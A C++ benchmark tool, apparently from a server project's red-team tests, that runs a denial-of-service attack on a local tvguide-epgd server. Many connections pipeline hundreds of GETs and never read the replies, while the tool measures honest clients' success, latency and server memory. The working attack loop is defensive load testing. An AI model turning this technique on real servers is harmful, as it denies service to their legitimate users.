// The non-reader attack on tvguide-epgd, run by tests/bench/redteam.sh:
// N connections each pipeline P GETs of a day page and never read a byte of
// the answers (reconnecting at once whenever the server drops one), while a
// few honest clients fetch pages on fresh connections. Prints the honest
// clients' success rate and latency, and the server's memory (VmRSS/VmHWM
// of --pid) and the kernel's TCP buffers (/proc/net/sockstat) at their peak.
// Only 127.0.0.1 is ever contacted.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <mutex>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;
using namespace std::chrono_literals;

struct Options {
    int port = 0;
    int pid = 0;  // the server's, for its memory
    int attackers = 1100;
    int pipeline = 400;
    int seconds = 30;
    int honest = 5;
    int gapMs = 100;  // each honest client's pause between requests
    int warmupSeconds = 3;
    int receiveBuffer = 4096;  // SO_RCVBUF of each attacker; 0: the kernel's
    std::string page = "/programys/TV_1/Channel_1/W3.htm";
};

[[noreturn]] void usage(const char* why) {
    std::fprintf(stderr,
                 "lockout_attack: %s\nusage: lockout_attack --port P [--pid PID] [--attackers N] "
                 "[--pipeline P] [--seconds S] [--honest H] [--gap-ms MS] [--warmup S] "
                 "[--page PATH] [--rcvbuf BYTES]\n",
                 why);
    std::exit(2);
}

Options parse(int argc, char** argv) {
    Options o;
    for (int i = 1; i < argc; ++i) {
        std::string a = argv[i];
        if (i + 1 >= argc) usage(("a value is missing after " + a).c_str());
        std::string v = argv[++i];
        auto number = [&] {
            char* end = nullptr;
            long n = std::strtol(v.c_str(), &end, 10);
            if (*end || n < 0 || n > 1'000'000) usage(("not a count: " + a + ' ' + v).c_str());
            return static_cast<int>(n);
        };
        if (a == "--port")
            o.port = number();
        else if (a == "--pid")
            o.pid = number();
        else if (a == "--attackers")
            o.attackers = number();
        else if (a == "--pipeline")
            o.pipeline = number();
        else if (a == "--seconds")
            o.seconds = number();
        else if (a == "--honest")
            o.honest = number();
        else if (a == "--gap-ms")
            o.gapMs = number();
        else if (a == "--warmup")
            o.warmupSeconds = number();
        else if (a == "--page")
            o.page = v;
        else if (a == "--rcvbuf")
            o.receiveBuffer = number();
        else
            usage(("unknown option " + a).c_str());
    }
    if (o.port <= 0 || o.port > 65535) usage("--port is required");
    return o;
}

sockaddr_in serverAddress(int port) {
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<std::uint16_t>(port));
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
}

// The attackers, on one epoll thread: connect, send the pipeline, never
// read; when the server drops a connection, open another at once.
class Attackers {
  public:
    Attackers(const Options& o) : o_(o), address_(serverAddress(o.port)) {
        for (int i = 0; i < o.pipeline; ++i)
            pipeline_ += "GET " + o.page + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
        epoll_ = epoll_create1(EPOLL_CLOEXEC);
    }
    ~Attackers() {
        for (auto& [fd, sent] : sent_) close(fd);
        close(epoll_);
    }

    void run(const std::atomic<bool>& stop) {
        for (int i = 0; i < o_.attackers; ++i) open();
        epoll_event events[256];
        while (!stop) {
            for (int i = open_; i < o_.attackers; ++i) open();  // after failed connects
            int n = epoll_wait(epoll_, events, 256, 100);
            for (int i = 0; i < n; ++i) {
                int fd = events[i].data.fd;
                if (events[i].events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP)) {
                    drop(fd);
                    ++dropped;
                    open();
                } else if (events[i].events & EPOLLOUT) {
                    send(fd);
                }
            }
        }
    }

    std::atomic<int> established{0};  // with the whole pipeline sent
    std::atomic<long> dropped{0};     // by the server

  private:
    void open() {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (fd < 0) return;
        // Small: an attacker keeps its own side cheap, and the server's
        // answers stop in the server's buffers, not in the attacker's.
        if (o_.receiveBuffer > 0)
            setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &o_.receiveBuffer, sizeof o_.receiveBuffer);
        int r = connect(fd, reinterpret_cast<const sockaddr*>(&address_), sizeof address_);
        if (r < 0 && errno != EINPROGRESS) {
            close(fd);
            return;
        }
        epoll_event ev{};
        ev.events = EPOLLOUT | EPOLLRDHUP;
        ev.data.fd = fd;
        epoll_ctl(epoll_, EPOLL_CTL_ADD, fd, &ev);
        sent_[fd] = 0;
        ++open_;
    }

    void send(int fd) {
        std::size_t& sent = sent_[fd];
        while (sent < pipeline_.size()) {
            ssize_t n = ::send(fd, pipeline_.data() + sent, pipeline_.size() - sent, MSG_NOSIGNAL);
            if (n < 0 && errno == EAGAIN) return;  // the rest on the next EPOLLOUT
            if (n <= 0) {
                drop(fd);
                ++dropped;
                return open();
            }
            sent += static_cast<std::size_t>(n);
        }
        // All sent: from now on only the server closing it is of interest.
        epoll_event ev{};
        ev.events = EPOLLRDHUP;
        ev.data.fd = fd;
        epoll_ctl(epoll_, EPOLL_CTL_MOD, fd, &ev);
        ++established;
    }

    void drop(int fd) {
        auto it = sent_.find(fd);
        if (it == sent_.end()) return;
        if (it->second == pipeline_.size()) --established;
        sent_.erase(it);
        epoll_ctl(epoll_, EPOLL_CTL_DEL, fd, nullptr);
        close(fd);
        --open_;
    }

    const Options& o_;
    sockaddr_in address_;
    std::string pipeline_;
    int epoll_ = -1;
    int open_ = 0;
    std::unordered_map<int, std::size_t> sent_;  // bytes of the pipeline sent, per socket
};

enum class Outcome { Ok, Busy, NoConnect, Broken, Count };
const char* const kOutcomeNames[] = {"answered", "503", "no connection", "cut or late"};

// One honest request on a fresh connection: connect, GET, read to the end.
// Fails on anything but a whole 200 answer within five seconds.
Outcome honestFetch(const sockaddr_in& address, const std::string& page) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return Outcome::NoConnect;
    timeval limit{5, 0};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);  // connect too
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    Outcome out = Outcome::NoConnect;
    if (connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0) {
        std::string request =
            "GET " + page + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n";
        if (::send(fd, request.data(), request.size(), MSG_NOSIGNAL) ==
            static_cast<ssize_t>(request.size())) {
            std::string in;
            char buf[16384];
            auto until = Clock::now() + 5s;
            ssize_t n;
            while (Clock::now() < until && (n = recv(fd, buf, sizeof buf, 0)) > 0)
                in.append(buf, static_cast<std::size_t>(n));
            auto end = in.find("\r\n\r\n");
            auto length = in.find("Content-Length: ");
            bool whole = in.rfind("HTTP/1.1 200 ", 0) == 0 && end != std::string::npos &&
                         length != std::string::npos &&
                         in.size() - end - 4 == std::strtoul(in.c_str() + length + 16, nullptr, 10);
            out = whole                               ? Outcome::Ok
                  : in.rfind("HTTP/1.1 503 ", 0) == 0 ? Outcome::Busy
                                                      : Outcome::Broken;
        } else {
            out = Outcome::Broken;
        }
    }
    close(fd);
    return out;
}

struct Memory {
    long rssKb = 0, hwmKb = 0;
};

Memory serverMemory(int pid) {
    Memory m;
    std::ifstream in("/proc/" + std::to_string(pid) + "/status");
    std::string key;
    long value;
    while (in >> key) {
        if (key == "VmRSS:" && in >> value)
            m.rssKb = value;
        else if (key == "VmHWM:" && in >> value)
            m.hwmKb = value;
    }
    return m;
}

// Pages the kernel holds for TCP sockets, system-wide (both ends on 127.0.0.1).
long tcpMemoryKb() {
    std::ifstream in("/proc/net/sockstat");
    std::string word;
    while (in >> word)
        if (word == "mem") {
            long pages = 0;
            in >> pages;
            return pages * (sysconf(_SC_PAGESIZE) / 1024);
        }
    return 0;
}

double percentile(std::vector<double>& v, double p) {
    if (v.empty()) return 0;
    std::sort(v.begin(), v.end());
    return v[std::min(v.size() - 1, static_cast<std::size_t>(p * static_cast<double>(v.size())))];
}

}  // namespace

int main(int argc, char** argv) {
    Options o = parse(argc, argv);
    std::atomic<bool> stop{false};
    Attackers attackers(o);
    std::thread attack([&] { attackers.run(stop); });

    // Let the attackers take their places before the honest clients come.
    auto warm = Clock::now() + std::chrono::seconds(o.warmupSeconds);
    while (Clock::now() < warm) std::this_thread::sleep_for(100ms);
    long droppedBefore = attackers.dropped;
    int heldAtStart = attackers.established;

    std::mutex mutex;
    std::vector<double> latencies;  // ms, of the answered requests
    long attempts = 0, answered = 0;
    long outcomes[static_cast<int>(Outcome::Count)] = {};
    std::atomic<bool> honestStop{false};
    std::vector<std::thread> honest;
    auto address = serverAddress(o.port);
    for (int h = 0; h < o.honest; ++h)
        honest.emplace_back([&, h] {
            for (int i = h; !honestStop; ++i) {
                std::string page = o.page;
                page[page.size() - 5] = static_cast<char>('1' + i % 7);  // W1..W7
                auto t0 = Clock::now();
                Outcome outcome = honestFetch(address, page);
                double ms = std::chrono::duration<double, std::milli>(Clock::now() - t0).count();
                {
                    std::lock_guard lock(mutex);
                    ++attempts;
                    ++outcomes[static_cast<int>(outcome)];
                    if (outcome == Outcome::Ok) {
                        ++answered;
                        latencies.push_back(ms);
                    }
                }
                std::this_thread::sleep_for(std::chrono::milliseconds(o.gapMs));
            }
        });

    Memory peak;
    long tcpPeakKb = 0;
    int heldLeast = attackers.established;
    auto end = Clock::now() + std::chrono::seconds(o.seconds);
    while (Clock::now() < end) {
        if (o.pid > 0) {
            Memory m = serverMemory(o.pid);
            peak.rssKb = std::max(peak.rssKb, m.rssKb);
            peak.hwmKb = std::max(peak.hwmKb, m.hwmKb);
        }
        tcpPeakKb = std::max(tcpPeakKb, tcpMemoryKb());
        heldLeast = std::min<int>(heldLeast, attackers.established);
        std::this_thread::sleep_for(250ms);
    }
    honestStop = true;
    for (auto& t : honest) t.join();
    stop = true;
    attack.join();

    double p50 = percentile(latencies, 0.50), p99 = percentile(latencies, 0.99);
    double success =
        attempts ? 100.0 * static_cast<double>(answered) / static_cast<double>(attempts) : 0;
    std::printf(
        "non-readers: %d, %d GETs each; holding %d at the start, at least %d throughout; "
        "%ld dropped by the server\n",
        o.attackers, o.pipeline, heldAtStart, heldLeast, attackers.dropped - droppedBefore);
    std::printf("honest: %ld of %ld answered (%.1f %%), p50 %.1f ms, p99 %.1f ms; failed:",
                answered, attempts, success, p50, p99);
    for (int i = 1; i < static_cast<int>(Outcome::Count); ++i)
        std::printf(" %s %ld", kOutcomeNames[i], outcomes[i]);
    std::printf("\n");
    if (o.pid > 0)
        std::printf("server: VmRSS peak %.1f MB, VmHWM %.1f MB\n", peak.rssKb / 1024.0,
                    peak.hwmKb / 1024.0);
    std::printf("kernel TCP buffers (all sockets) peak: %.1f MB\n", tcpPeakKb / 1024.0);
    std::printf(
        "RESULT lockout success=%.1f p50_ms=%.1f p99_ms=%.1f rss_mb=%.1f hwm_mb=%.1f tcp_mb=%.1f\n",
        success, p50, p99, peak.rssKb / 1024.0, peak.hwmKb / 1024.0, tcpPeakKb / 1024.0);
    return 0;
}
